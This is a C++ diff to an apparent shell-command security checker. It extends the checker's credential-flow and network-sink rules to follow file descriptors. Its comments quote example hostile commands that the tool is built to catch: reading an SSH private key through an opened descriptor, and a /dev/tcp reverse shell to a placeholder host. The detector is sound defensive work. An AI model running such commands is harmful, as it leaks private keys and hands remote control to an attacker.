@@ -6,6 +6,7 @@
 // exec:, awk's /inet/). The flow is computed once per parsed script; rules ask per command.
 #include <algorithm>
 #include <array>
+#include <bitset>
 #include <cctype>
 #include <string>
 #include <vector>
@@ -138,6 +139,83 @@ void WrittenFiles(const SimpleCommand& c, std::vector<std::string>& out) {
   }
 }
 
+// Descriptors 0..255 (bash's own go up to 255 and beyond; past that is not tracked).
+using FdSet = std::bitset<256>;
+
+// The descriptor a `<&N` / `>&N-` target or a /dev/fd/N, /proc/self/fd/N path names; -1 when
+// none (or past 255).
+int FdNumber(std::string_view t) {
+  for (std::string_view prefix : {"/dev/fd/", "/proc/self/fd/", "/proc/$$/fd/"}) {
+    if (t.starts_with(prefix)) {
+      t.remove_prefix(prefix.size());
+      break;
+    }
+  }
+  if (t.ends_with('-')) t.remove_suffix(1);
+  if (t.empty() || t.size() > 3) return -1;
+  int fd = 0;
+  for (const char c : t) {
+    if (c < '0' || c > '9') return -1;
+    fd = fd * 10 + (c - '0');
+  }
+  return fd < 256 ? fd : -1;
+}
+
+bool HasFd(const FdSet& fds, int fd) { return fd >= 0 && fd < 256 && fds.test(static_cast<size_t>(fd)); }
+void AddFd(FdSet& fds, int fd) {
+  if (fd >= 0 && fd < 256) fds.set(static_cast<size_t>(fd));
+}
+
+// Descriptors of `script` opened on something `opens` accepts (`exec 3< ~/.ssh/id_rsa`,
+// `exec 5<>/dev/tcp/h/p`, `{ ...; } 3<key`), and their duplicates (`exec 4<&3`). Where in the
+// line they are opened is not tracked: any of them may be open for any command.
+template <typename Opens>
+FdSet OpenedFds(const ParsedScript& script, Opens&& opens) {
+  FdSet fds;
+  for (const SimpleCommand& c : script.commands) {
+    for (const Redirection& r : c.redirections) {
+      if (r.fd >= 0 && !r.IsFdTarget() && r.op != RedirectOp::kHeredoc &&
+          r.op != RedirectOp::kHereString && opens(r)) {
+        AddFd(fds, r.fd);
+      }
+    }
+  }
+  for (int pass = 0; pass < 2 && fds.any(); ++pass) {
+    for (const SimpleCommand& c : script.commands) {
+      for (const Redirection& r : c.redirections) {
+        if (r.fd >= 0 && r.IsFdTarget() && HasFd(fds, FdNumber(r.target.text))) {
+          AddFd(fds, r.fd);
+        }
+      }
+    }
+  }
+  return fds;
+}
+
+// Does `c` read or write one of `fds` (`<&3`, `>&3`, `2>&3`, /dev/fd/3 as an operand,
+// read -u 3)?
+bool UsesFd(const SimpleCommand& c, const FdSet& fds) {
+  for (const Redirection& r : c.redirections) {
+    if (r.IsFdTarget() && HasFd(fds, FdNumber(r.target.text))) return true;
+  }
+  const bool reads_fd = !c.argv.empty() && (c.argv[0].text == "read" ||
+                                            c.argv[0].text == "mapfile" ||
+                                            c.argv[0].text == "readarray");
+  for (size_t k = 1; k < c.argv.size(); ++k) {
+    const std::string_view t = c.argv[k].text;
+    if (t.starts_with("/dev/fd/") || t.starts_with("/proc/")) {
+      if (HasFd(fds, FdNumber(t))) return true;
+    } else if (reads_fd && t.starts_with("-") && !t.starts_with("--") &&
+               t.back() != 'u' && t.find('u') != std::string_view::npos) {
+      if (HasFd(fds, FdNumber(t.substr(t.find('u') + 1)))) return true;  // -u3
+    } else if (reads_fd && t.starts_with("-") && !t.starts_with("--") && t.back() == 'u' &&
+               k + 1 < c.argv.size()) {
+      if (HasFd(fds, FdNumber(c.argv[k + 1].text))) return true;  // -u 3, -ru 3
+    }
+  }
+  return false;
+}
+
 // Could data leave the machine in this script: a sink, a socket, or a payload carrier?
 bool ScriptHasSink(const ParsedScript& script) {
   for (const SimpleCommand& c : script.commands) {
@@ -220,6 +298,34 @@ std::vector<bool> ComputeCredentialFlow(const Judge& judge, const ParsedScript& 
       if (r.op == RedirectOp::kIn || r.op == RedirectOp::kInOut) {
         taint[i] = WordIsCredential(judge, r.target, scratch);
       }
+    }
+  }
+  // A compound reading a credential on stdin (`while read l; do ...; done < ~/.ssh/id_rsa`):
+  // its redirections come as an entry without argv after its inner commands, which were
+  // parsed after it took its pipeline id, so theirs are larger.
+  for (size_t i = 0; i < n; ++i) {
+    const SimpleCommand& c = script.commands[i];
+    if (!c.argv.empty() || !taint[i]) continue;
+    bool stdin_credential = false;
+    for (const Redirection& r : c.redirections) {
+      stdin_credential = stdin_credential ||
+                         ((r.fd == -1 || r.fd == 0) && r.op == RedirectOp::kIn &&
+                          WordIsCredential(judge, r.target, scratch));
+    }
+    if (!stdin_credential) continue;
+    for (size_t k = 0; k < i; ++k) {
+      if (script.commands[k].pipeline > c.pipeline) taint[k] = true;
+    }
+  }
+  // Reads through a descriptor opened on a credential path earlier (`exec 3< ~/.ssh/id_rsa;
+  // cat <&3`).
+  const FdSet credential_fds = OpenedFds(script, [&](const Redirection& r) {
+    return (r.op == RedirectOp::kIn || r.op == RedirectOp::kInOut) &&
+           WordIsCredential(judge, r.target, scratch);
+  });
+  if (credential_fds.any()) {
+    for (size_t i = 0; i < n; ++i) {
+      if (!taint[i]) taint[i] = UsesFd(script.commands[i], credential_fds);
     }
   }
   // Propagation to a fixed point: pipes, substitutions into their command, files written and
@@ -315,7 +421,17 @@ void JudgeNetworkSinkRules(Judge& judge, const CommandView& v) {
   const std::string_view n = v.name;
   bool socket = false;
   if (v.cmd != nullptr) {
-    for (const Redirection& r : v.cmd->redirections) socket = socket || IsSocketPath(r.target.text);
+    bool dup = false;
+    for (const Redirection& r : v.cmd->redirections) {
+      socket = socket || IsSocketPath(r.target.text);
+      dup = dup || r.IsFdTarget();
+    }
+    // A descriptor opened on a socket earlier (`exec 5<>/dev/tcp/h/p; sh <&5 >&5`).
+    if (!socket && dup && v.script != nullptr) {
+      socket = UsesFd(*v.cmd, OpenedFds(*v.script, [](const Redirection& r) {
+                 return IsSocketPath(r.target.text);
+               }));
+    }
   }
   // Reverse shells: a shell wired to a socket, netcat/socat running a program for the peer.
   if (socket && (v.traits & (kTraitShell | kTraitInterpreter)) != 0) {
